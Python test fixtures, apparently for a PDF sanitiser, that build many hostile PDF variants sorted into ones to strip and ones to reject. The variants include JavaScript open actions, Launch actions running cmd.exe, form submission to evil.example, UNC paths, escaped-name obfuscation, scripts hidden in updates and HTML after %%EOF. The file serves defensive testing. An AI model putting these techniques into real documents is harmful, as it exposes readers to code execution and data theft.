"""PDFs that run, open, send or hide something: ``TAKEN_OUT`` lose it, ``REFUSED`` are not kept.

Each is a change of the same page, or bytes. Without what is refused a person would send less than they see.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, String

from tests.documents.pdf.pages import annotated, document, written

if TYPE_CHECKING:
    from collections.abc import Callable

SCRIPT = Dictionary(S=Name.JavaScript, JS="app.alert(1)")
PATH = String("\\\\evil.example\\share\\a.pdf")
ARCHIVE = b"% PK\x03\x04" + b"\0" * 18 + b"PK\x05\x06" + b"\0" * 18
ACTIONS = {
    "script": SCRIPT,
    "launch": Dictionary(S=Name.Launch, F="calc.exe"),
    "launch for windows": Dictionary(S=Name.Launch, Win=Dictionary(F="cmd.exe", P="/c calc")),
    "another file": Dictionary(S=Name.GoToR, F=PATH, D=Array([0, Name.Fit])),
    "a file inside": Dictionary(S=Name.GoToE, F=PATH, D="x", T=Dictionary(R=Name.C, N="a.pdf")),
    "a web address": Dictionary(S=Name.URI, URI="https://evil.example/?who"),
    "sending the form": Dictionary(S=Name.SubmitForm, F="https://evil.example/", Fields=Array()),
    "importing data": Dictionary(S=Name.ImportData, F=PATH),
    "a film": Dictionary(S=Name.Movie, T="film"),
    "a sound": Dictionary(S=Name.Sound, Volume=1),
    "a rendition": Dictionary(S=Name.Rendition, OP=0, JS="app.alert(1)"),
    "a scene": Dictionary(S=Name.GoTo3DView, V=Name.Default),
    "media": Dictionary(S=Name.RichMediaExecute, CMD=Dictionary(C="play")),
    "hiding": Dictionary(S=Name.Hide, T="field"),
    "layers": Dictionary(S=Name.SetOCGState, State=Array()),
    "resetting": Dictionary(S=Name.ResetForm),
    "a command": Dictionary(S=Name.Named, N=Name.Print),
    "an article": Dictionary(S=Name.Thread, D=0),
    "a place, then a script": Dictionary(S=Name.GoTo, D="x", Next=Array([SCRIPT])),
    "an action of nobody": Dictionary(S=Name("/Xyz"), JS="app.alert(1)"),
}


def _opened(action: Dictionary) -> Callable[[Pdf], None]:
    def change(pdf: Pdf) -> None:
        pdf.Root.OpenAction = action

    return change


def _on_catalogue(**entries: object) -> Callable[[Pdf], None]:
    def change(pdf: Pdf) -> None:
        for key, value in entries.items():
            pdf.Root[f"/{key}"] = value

    return change


def _on_page(**entries: object) -> Callable[[Pdf], None]:
    def change(pdf: Pdf) -> None:
        for key, value in entries.items():
            pdf.pages[0].obj[f"/{key}"] = value

    return change


def _marked(mark: Dictionary) -> Callable[[Pdf], None]:
    return _on_page(Annots=Array([mark]))


def _script_in_a_stream(pdf: Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=pdf.make_stream(b"app.alert(1)"))


def _behind_references(pdf: Pdf) -> None:
    kind, script = pdf.make_indirect(Name.JavaScript), pdf.make_indirect(String("app.alert(1)"))
    pdf.Root.OpenAction = pdf.make_indirect(Dictionary(S=kind, JS=script))


def _on_the_node(pdf: Pdf) -> None:
    pdf.Root.Pages.AA = Dictionary(O=SCRIPT)


def _circle_of_actions(pdf: Pdf) -> None:
    action = pdf.make_indirect(Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit])))
    action.Next = Array([action, SCRIPT])
    pdf.Root.OpenAction = action


def _on_a_field(pdf: Pdf) -> None:
    field = pdf.make_indirect(
        annotated("Widget", FT=Name.Tx, T="nom", V="Ada", AA=Dictionary(K=SCRIPT, F=SCRIPT), A=SCRIPT)
    )
    pdf.pages[0].obj.Annots = Array([field])
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), CO=Array([field]))


def _in_an_outline(pdf: Pdf) -> None:
    entry = pdf.make_indirect(Dictionary(Title="1", A=ACTIONS["another file"], SE=SCRIPT))
    pdf.Root.Outlines = pdf.make_indirect(Dictionary(First=entry, Last=entry, Count=1))
    entry.Parent = pdf.Root.Outlines


def _names(tree: str, value: object) -> Callable[[Pdf], None]:
    def change(pdf: Pdf) -> None:
        leaf = pdf.make_indirect(Dictionary(Names=Array([String("a"), value]), Limits=Array(["a", "a"])))
        pdf.Root.Names = Dictionary({f"/{tree}": Dictionary(Kids=Array([leaf]))})

    return change


def _drawing(**entries: object) -> Callable[[Pdf], None]:
    def change(pdf: Pdf) -> None:
        form = pdf.make_stream(b"", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 9, 9]), **entries)
        pdf.pages[0].obj.Resources.XObject = Dictionary(X=form)

    return change


def _hidden_page(pdf: Pdf) -> None:
    page = Dictionary(
        Type=Name.Page, Parent=pdf.Root.Pages, AA=Dictionary(O=SCRIPT), MediaBox=Array([0, 0, 9, 9])
    )
    pdf.Root.Dests = Dictionary(x=Array([pdf.make_indirect(page), Name.Fit]))


def _hidden_in_tags(pdf: Pdf) -> None:
    element = pdf.make_indirect(Dictionary(S=Name.P, A=Dictionary(O=Name.Layout, S=Name.JavaScript, JS="x")))
    element.K = Dictionary(Type=Name.OBJR, Obj=Dictionary(Subtype=Name.Widget, AA=Dictionary(K=SCRIPT)))
    pdf.Root.StructTreeRoot = pdf.make_indirect(
        Dictionary(Type=Name.StructTreeRoot, K=Array([element, SCRIPT]))
    )


def _in_an_old_version() -> bytes:
    old = written(document())
    number = int(old.rpartition(b"startxref")[2].split()[0])
    hidden = b"\n90 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n"
    at = len(old) + 1
    table = f"xref\n90 1\n{at:010} 00000 n \ntrailer\n<< /Size 91 /Root 1 0 R /Prev {number} >>\n".encode()
    return old + hidden + table + f"startxref\n{len(old) + len(hidden)}\n%%EOF\n".encode()


def _written_with_escapes(pdf: bytes) -> bytes:
    return (
        pdf.replace(b"/JavaScript", b"/J#61v#61Script")
        .replace(b"/JS", b"/#4a#53")
        .replace(b"/OpenAction", b"/Open#41ction")
    )


def made(change: Callable[[Pdf], None], **options: object) -> bytes:
    """Return the page with the change."""
    pdf = document()
    change(pdf)
    return written(pdf, **{"compress_streams": False} | options)


def direct_catalogue(action: bytes) -> bytes:
    """Return a PDF whose catalogue stands in the trailer, and opens with ``action``."""
    pdf = b"%PDF-1.4\n"
    parts, places = (
        [
            b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 1 0 R /MediaBox [0 0 200 200] /Contents 3 0 R >>",
            b"<< /Length 17 >>\nstream\n0 0 100 100 re f\n\nendstream",
        ],
        [],
    )
    for number, part in enumerate(parts, 1):
        places.append(len(pdf))
        pdf += b"%d 0 obj\n%s\nendobj\n" % (number, part)
    start = len(pdf)
    pdf += b"xref\n0 4\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % place for place in places)
    catalogue = b"<< /Type /Catalog /Pages 1 0 R /OpenAction " + action + b" >>"
    return pdf + b"trailer\n<< /Size 4 /Root " + catalogue + b" >>\nstartxref\n%d\n%%%%EOF\n" % start


def _files(pdf: Pdf, name: str = "a.exe") -> Dictionary:
    content = pdf.make_stream(b"MZ", Type=Name.EmbeddedFile)
    return pdf.make_indirect(Dictionary(Type=Name.Filespec, F=name, UF=name, EF=Dictionary(F=content)))


def _external(place: str) -> Callable[[Pdf], None]:
    def change(pdf: Pdf) -> None:
        page = pdf.pages[0].obj
        if place == "page":
            page.Contents.F = PATH
        else:
            image = {"Subtype": Name.Image, "Width": 1, "Height": 1, "BitsPerComponent": 8}
            stream = pdf.make_stream(b"\0", ColorSpace=Name.DeviceGray, F=PATH, **image)
            page.Resources.XObject = Dictionary(I=stream)

    return change


TAKEN_OUT: dict[str, bytes] = {
    **{f"opens {name}": made(_opened(action)) for name, action in ACTIONS.items()},
    **{
        f"leaves the page with {name}": made(_on_page(AA=Dictionary(C=action)))
        for name, action in ACTIONS.items()
    },
    **{
        f"link to {name}": made(_marked(annotated("Link", A=action)))
        for name, action in ACTIONS.items()
        if name != "a web address"
    },
    "script in a stream": made(_script_in_a_stream),
    "script behind references": made(_behind_references),
    "script with escapes": _written_with_escapes(
        made(_opened(SCRIPT), object_stream_mode=pikepdf.ObjectStreamMode.disable)
    ),
    "script beside a name of odd bytes": made(
        lambda pdf: (_opened(SCRIPT)(pdf), _on_page(Tabs=Name("/Sxxx"))(pdf))
    ).replace(b"/Sxxx", b"/S#e9"),
    "script behind an owner's password": made(
        _opened(SCRIPT), encryption=pikepdf.Encryption(owner="x", user="")
    ),
    "script before printing": made(_on_catalogue(AA=Dictionary(WP=SCRIPT))),
    "script on the node of pages": made(_on_the_node),
    "actions in a circle": made(_circle_of_actions),
    "scripts of a field": made(_on_a_field),
    "action of an outline": made(_in_an_outline),
    "scripts by name": made(_names("JavaScript", SCRIPT)),
    "pages by name": made(_names("Templates", Dictionary(Type=Name.Template))),
    "renditions by name": made(_names("Renditions", Dictionary(S=Name.MR))),
    "address of captured pages": made(_names("URLS", Dictionary(S=Name.SPS))),
    "link whose address runs": made(
        _marked(annotated("Link", A=Dictionary(S=Name.URI, URI="JavaScript:alert(1)")))
    ),
    "link to a path": made(_marked(annotated("Link", A=Dictionary(S=Name.URI, URI="file://evil.example/a")))),
    "link after a blank": made(
        _marked(annotated("Link", A=Dictionary(S=Name.URI, URI=" file://evil.example")))
    ),
    "link, then a script": made(
        _marked(annotated("Link", A=Dictionary(S=Name.URI, URI="https://a.example", Next=SCRIPT), PA=SCRIPT))
    ),
    "drawing of another file": made(_drawing(Ref=Dictionary(F=PATH, Page=0))),
    "drawing in PostScript": made(_drawing(Subtype2=Name.PS, PS=Dictionary(A=1))),
    "drawing for a press": made(_drawing(OPI=Dictionary({"/2.0": Dictionary(F=PATH)}))),
    "private data": made(_on_catalogue(PieceInfo=Dictionary(X=Dictionary(Private=SCRIPT)))),
    "steps of a show": made(_on_page(PresSteps=Dictionary(NA=SCRIPT))),
    "unknown keys": made(_on_catalogue(Xyz=Dictionary(A=SCRIPT), Lang=SCRIPT, PageMode=SCRIPT)),
    "page outside the tree": made(_hidden_page),
    "hidden in tags": made(_hidden_in_tags),
    "mark of a file elsewhere": made(_marked(annotated("FileAttachment", FS=PATH))),
    "mark of a named file elsewhere": made(
        _marked(annotated("FileAttachment", FS=Dictionary(Type=Name.Filespec, F=PATH, FS=Name.URL)))
    ),
    "base of addresses": made(_on_catalogue(URI=Dictionary(Base="file://evil.example/"))),
    "program after the end": written(document()) + ARCHIVE,
    "page of the web after the end": written(document()) + b"<html><script>alert(1)</script></html>",
    "script in an update": _in_an_old_version(),
    "page of the web in a comment": written(document()).replace(b"\n", b"\n%<script>alert(1)</script>\n", 1),
}
DIRECT_CATALOGUE = {name: direct_catalogue(action.unparse(resolved=True)) for name, action in ACTIONS.items()}
REFUSED: dict[str, bytes] = {
    "archive in a stream": made(
        lambda pdf: pdf.pages[0].obj.__setitem__("/Contents", pdf.make_stream(ARCHIVE))
    ),
    "file by name": made(lambda pdf: _names("EmbeddedFiles", _files(pdf))(pdf)),
    "file of the document": made(lambda pdf: _on_catalogue(AF=Array([_files(pdf)]))(pdf)),
    "file of a page": made(lambda pdf: _on_page(AF=Array([_files(pdf)]))(pdf)),
    "file in a mark": made(lambda pdf: _marked(annotated("FileAttachment", FS=_files(pdf)))(pdf)),
    "portfolio": made(_on_catalogue(Collection=Dictionary(View=Name.D))),
    "form in XFA": made(_on_catalogue(AcroForm=Dictionary(XFA=Array(), Fields=Array()))),
    "form that waits": made(_on_catalogue(NeedsRendering=True)),
    "page in another file": made(_external("page")),
    "picture in another file": made(_external("picture")),
    **{
        f"mark {kind}": made(_marked(annotated(kind, A=SCRIPT)))
        for kind in ("Sound", "Movie", "Screen", "3D", "RichMedia", "Projection")
    },
}
